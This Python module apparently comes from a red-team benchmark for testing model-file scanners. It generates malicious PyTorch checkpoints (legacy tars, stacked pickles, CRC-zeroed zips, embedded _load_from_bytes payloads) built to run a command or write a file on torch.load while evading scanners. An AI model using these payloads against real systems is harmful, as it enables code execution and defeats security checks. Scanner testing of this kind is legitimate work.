"""PyTorch: torch.load(weights_only=False) on legacy tar files, stacked pickles and zips.

Read from torch/serialization.py: a real file at offset 0 is first tried as the
legacy *tar* format (`tarfile.open(mode='r:')`, members storages/tensors/pickle;
'storages' is unpickled first with the plain pickle module). tarfile reads old
V7 headers, which have no `ustar` magic. Zips go to PyTorchFileReader (miniz),
which names the archive after the first central-directory entry and reads
`<archive>/data.pkl`; miniz checks less than zipfile does.
`torch.storage._load_from_bytes` is torch.load on bytes embedded in a pickle.
"""

from __future__ import annotations

import pickle

from mlsecops.fixtures import torch_state_dict_pickle, torch_zip

import struct
import tarfile

from benchmarks.redteam.archives import tar_bytes, tar_members, v7, v7_tar
from benchmarks.redteam.pickles import PROTO2, b, call, glob2, s2, system_call, system_pickle
from benchmarks.redteam.sample import Sample

F = "torch"
MAGIC = 0x1950A86A20F9469CFC6C


def _legacy_members(storages: bytes) -> dict[str, bytes]:
    return {"storages": storages, "tensors": pickle.dumps(0, protocol=2), "pickle": pickle.dumps({}, protocol=2)}


def legacy_tar(storages: bytes) -> bytes:
    return v7_tar(_legacy_members(storages))


def legacy_stream(*pickles: bytes) -> bytes:
    return pickle.dumps(MAGIC, protocol=2) + b"".join(pickles)


def load_from_bytes(payload: bytes) -> bytes:
    return PROTO2 + call(glob2("torch.storage", "_load_from_bytes"), b(payload)) + b"."


def persid_dump_patches(dtype: bytes = b"") -> bytes:
    """Legacy torch.load's persistent_load('module', cls, file, source) writes `<cls.__name__>.patch` when the
    source differs and `cls.dump_patches` is true. The pickle sets both on argparse.Namespace (allowlisted)
    with a BUILD whose target is numpy's scalar(dtype('O'), cls): an identity function, so the BUILD is not
    on an imported global."""
    dtype = dtype or glob2("numpy", "dtype") + b"(" + s2("O8") + b"\x89\x88tR"
    identity = glob2("numpy._core.multiarray", "scalar") + b"(" + dtype
    cls = glob2("argparse", "Namespace")
    state = b"(N}(" + s2("__name__") + s2("pwned") + s2("dump_patches") + b"\x88ut"
    persid = b"(" + s2("module") + cls + s2("argparse.py") + s2("class Namespace: pass") + b"tQ"
    main = PROTO2 + identity + cls + b"tR" + state + b"b0" + persid + b"."
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True,
                             "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    return legacy_stream(pickle.dumps(1001, protocol=2), sys_info, main)


def storages_with_call_after_data() -> bytes:
    """A well-formed `storages` stream (one FloatStorage of 2 elements) whose last pickle, the storage
    views, is the call: a reader of stacked pickles stops at the raw storage bytes before it."""
    count = PROTO2 + b"K\x01."
    storage = PROTO2 + b"(" + s2("0") + s2("cpu") + glob2("torch", "FloatStorage") + b"t."
    return count + storage + struct.pack("<q", 2) + b"\x17" * 8 + system_pickle()


def hardlinked_storages() -> bytes:
    """`storages` is a hard link to an earlier member: tar.extract writes the linked member's data."""
    return v7(tar_members([("data/blob", storages_with_call_after_data(), tarfile.REGTYPE, ""),
                           ("storages", b"", tarfile.LNKTYPE, "data/blob"),
                           ("tensors", pickle.dumps(0, protocol=2), tarfile.REGTYPE, ""),
                           ("pickle", pickle.dumps({}, protocol=2), tarfile.REGTYPE, "")]))


def unknown_type_storages() -> bytes:
    """`storages` with a member type tarfile does not know: tar.extract makes a regular file of it."""
    return v7(tar_members([("storages", storages_with_call_after_data(), b"Z", ""),
                           ("tensors", pickle.dumps(0, protocol=2), tarfile.REGTYPE, ""),
                           ("pickle", pickle.dumps({}, protocol=2), tarfile.REGTYPE, "")]))


def stack_and_v7_tar() -> bytes:
    """A benign legacy stacked checkpoint that is also a V7 tar: torch.load tries tarfile first and
    reads the tar, whose `storages` calls. The tar header's fields sit in a bytes value of the
    sys-info pickle; the tar's other members sit where the stacked format keeps raw storage data."""
    magic = pickle.dumps(MAGIC, protocol=2)
    proto = pickle.dumps(1001, protocol=2)
    head = magic + proto
    sys_start = len(head)
    # sys_info: {'x': <bytes covering the rest of the 512-byte tar header>}
    prefix = PROTO2 + b"}" + s2("x") + b"B"
    blob_at = sys_start + len(prefix) + 4
    blob = bytearray(512 - blob_at)
    tail_members = tar_members([("storages", system_pickle(), tarfile.REGTYPE, ""),
                                ("tensors", pickle.dumps(0, protocol=2), tarfile.REGTYPE, ""),
                                ("pickle", pickle.dumps({}, protocol=2), tarfile.REGTYPE, "")])
    rest = b"s."  # the bytes value's SETITEM and sys_info's STOP
    main = pickle.dumps({"w": 1}, protocol=2) + pickle.dumps([], protocol=2)
    # The tar's first member holds everything from 512 up to the next 512-byte boundary after
    # the stacked pickles; the other members follow there, in what torch would take as storage data.
    body = rest + main
    first_size = len(body) + (-(512 + len(body)) % 512)
    fields = {100: b"0000644\0", 108: b"0000000\0", 116: b"0000000\0", 124: b"%011o\0" % first_size,
              136: b"%011o\0" % 0, 148: b" " * 8, 156: b"0"}
    for off, val in fields.items():
        blob[off - blob_at:off - blob_at + len(val)] = val
    header = head + prefix + struct.pack("<I", len(blob)) + bytes(blob)
    assert len(header) == 512
    raw = bytearray(header + body + b"\0" * (first_size - len(body)) + v7(tail_members))
    raw[148:156] = b"%06o\0 " % sum(raw[:512])
    return bytes(raw)


def persid_class_build() -> bytes:
    """The dump_patches write with no numpy at all: a persistent id ('module', cls, '', '') (no source:
    nothing checked) is cls itself, and the BUILD that renames it and sets dump_patches targets that."""
    cls = glob2("argparse", "Namespace")
    same = b"(" + s2("module") + cls + s2("") + s2("") + b"tQ"
    state = b"(N}(" + s2("__name__") + s2("pwned") + s2("dump_patches") + b"\x88ut"
    write = b"(" + s2("module") + cls + s2("argparse.py") + s2("class Namespace: pass") + b"tQ"
    main = PROTO2 + same + state + b"b0" + write + b"."
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True,
                             "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    return legacy_stream(pickle.dumps(1001, protocol=2), sys_info, main)


def magic_spelled_persid_build() -> bytes:
    """persid_class_build with the magic number written as a protocol 0 LONG (torch only compares its
    value): a scanner that knows a legacy checkpoint by its `80 02 8a 0a` bytes reads a plain pickle
    stream, where a persistent id is anything."""
    raw = persid_class_build()
    first = pickle.dumps(MAGIC, protocol=2)
    return b"L%dL\n." % MAGIC + raw[len(first):]


def tar_pickle_persid_build() -> bytes:
    """The same in the tar format's `pickle` member, where torch's persistent_load takes any tuple
    (cls, file, source) as cls (and checks the source when both are set)."""
    cls = glob2("argparse", "Namespace")
    same = b"(" + cls + s2("") + s2("") + b"tQ"
    state = b"(N}(" + s2("__name__") + s2("pwned") + s2("dump_patches") + b"\x88ut"
    write = b"(" + cls + s2("argparse.py") + s2("class Namespace: pass") + b"tQ"
    main = PROTO2 + same + state + b"b0" + write + b"."
    return v7_tar({"storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
                   "tensors": pickle.dumps(0, protocol=2), "pickle": main})


def persid_dump_patches_objectdtype() -> bytes:
    """persid_dump_patches with the object dtype made by numpy.dtypes.ObjectDType() (allowlisted)."""
    return persid_dump_patches(dtype=glob2("numpy.dtypes", "ObjectDType") + b")R")


def utf16_bytes_arg(payload: bytes) -> bytes:
    """`_codecs.encode(text, 'utf-16-le')`: the bytes exist only after the call (a reader that assumes latin-1,
    as protocol 2 writes bytes, computes different ones)."""
    if len(payload) % 2:
        payload += b"\0"
    text = payload.decode("utf-16-le")
    return call(glob2("_codecs", "encode"), s2(text), s2("utf-16-le"))


def bytes_of_list(payload: bytes) -> bytes:
    """`builtins.bytes([...])` (allowlisted): the bytes are made from a list of ints at load time."""
    return call(glob2("builtins", "bytes"), b"(" + b"".join(b"K" + bytes([c]) for c in payload) + b"l")


def _t(data: bytes, name: str = "model.pt") -> dict[str, bytes]:
    return {name: data}


def _crc_zero(data: bytes) -> bytes:
    """Zero every CRC-32 (local and central): zipfile raises, miniz in torch does not check stored members."""
    raw = bytearray(data)
    for sig, off in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        pos = raw.find(sig)
        while pos != -1:
            raw[pos + off:pos + off + 4] = b"\0\0\0\0"
            pos = raw.find(sig, pos + 4)
    return bytes(raw)


def _evil_zip() -> bytes:
    return torch_zip({"w": 4}, data_pkl=torch_state_dict_pickle({"w": 4}, extra=b"X\x04\x00\x00\x00hook" + system_call()))


SAMPLES = [
    Sample("torch_legacy_tar_v7", F, "torch.load", "process",
           "a legacy tar checkpoint whose headers have no 'ustar' magic: torch's tarfile.open reads it and unpickles "
           "'storages' first; a scanner that recognises tar by its magic sees a file starting with 'storages'",
           lambda: _t(legacy_tar(system_pickle())), fast=True),
    Sample("torch_legacy_tar_ustar", F, "torch.load", "process",
           "baseline: the same legacy tar with ustar headers",
           lambda: _t(tar_bytes(_legacy_members(system_pickle())))),
    Sample("torch_load_from_bytes_legacy_stack", F, "torch.load", "process",
           "torch.storage._load_from_bytes on an embedded legacy stream whose second pickle is the call "
           "(a scanner that judges the embedded checkpoint instead of the call must read it as torch does)",
           lambda: _t(load_from_bytes(legacy_stream(system_call() + b".")), "model.pkl"), fast=True),
    Sample("torch_load_from_bytes_zip", F, "torch.load", "process",
           "torch.storage._load_from_bytes on an embedded zip checkpoint with the call in data.pkl",
           lambda: _t(load_from_bytes(_evil_zip()), "model.pkl")),
    Sample("torch_legacy_persid_dump_patches", F, "torch.load", "file",
           "a legacy checkpoint's persistent id ('module', cls, file, source) makes torch write <cls.__name__>.patch; "
           "the pickle renames argparse.Namespace to 'pwned' and sets dump_patches with a BUILD on numpy's "
           "scalar(dtype('O'), cls), an identity, so no BUILD targets an imported global",
           lambda: _t(persid_dump_patches()), fast=True),
    Sample("torch_legacy_tar_hardlink_storages", F, "torch.load", "process",
           "legacy tar (V7) whose 'storages' is a hard link to an earlier member: tar.extract writes that member's "
           "data, whose storage-views pickle (after the raw storage bytes) calls",
           lambda: _t(hardlinked_storages()), fast=True),
    Sample("torch_legacy_tar_unknown_type_storages", F, "torch.load", "process",
           "legacy tar whose 'storages' has a member type tarfile does not know: extracted as a regular file",
           lambda: _t(unknown_type_storages())),
    Sample("torch_legacy_stack_and_v7_tar", F, "torch.load", "process",
           "a benign legacy stacked checkpoint (magic number first) that is also a V7 tar: torch.load tries "
           "tarfile first and unpickles the tar's 'storages'; a scanner deciding by the magic number sees the stack",
           lambda: _t(stack_and_v7_tar())),
    Sample("torch_legacy_persid_class_build", F, "torch.load", "file",
           "the dump_patches write without numpy: the persistent id ('module', cls, '', '') is cls itself, the BUILD "
           "on it renames the class and sets dump_patches, a second id with a source writes pwned.patch",
           lambda: _t(persid_class_build()), fast=True),
    Sample("torch_legacy_magic_spelled_persid_build", F, "torch.load", "file",
           "the persistent-id class BUILD in a legacy stream whose magic number is a protocol 0 LONG: the file does "
           "not start with the bytes torch.save writes", lambda: _t(magic_spelled_persid_build())),
    Sample("torch_legacy_tar_pickle_persid_build", F, "torch.load", "file",
           "the same in a legacy tar's 'pickle' member, where any tuple (cls, file, source) stands for cls",
           lambda: _t(tar_pickle_persid_build())),
    Sample("torch_legacy_persid_dump_patches_objectdtype", F, "torch.load", "file",
           "the scalar() identity with its object dtype made by numpy.dtypes.ObjectDType() (an allowlisted DType "
           "class, no spec string)", lambda: _t(persid_dump_patches_objectdtype())),
    Sample("torch_load_from_bytes_utf16", F, "torch.load", "process",
           "_load_from_bytes on bytes made by _codecs.encode(text, 'utf-16-le'): the checkpoint is not in the file as bytes",
           lambda: _t(PROTO2 + call(glob2("torch.storage", "_load_from_bytes"), utf16_bytes_arg(legacy_stream(system_call() + b"."))) + b".",
                      "model.pkl")),
    Sample("torch_load_from_bytes_bytes_of_list", F, "torch.load", "process",
           "_load_from_bytes on builtins.bytes([...]) (an allowlisted constructor): the checkpoint is a list of "
           "ints in the file, bytes only once loaded",
           lambda: _t(PROTO2 + call(glob2("torch.storage", "_load_from_bytes"),
                                    bytes_of_list(legacy_stream(system_call() + b"."))) + b".", "model.pkl")),
    Sample("torch_zip_crc_zeroed", F, "torch.load", "process",
           "every CRC-32 zeroed: zipfile-based readers raise, torch (miniz) loads stored members unchecked",
           lambda: _t(_crc_zero(_evil_zip()))),
    Sample("torch_zip_baseline", F, "torch.load", "process", "baseline: the call in data.pkl of a torch.save zip",
           lambda: _t(_evil_zip())),
]
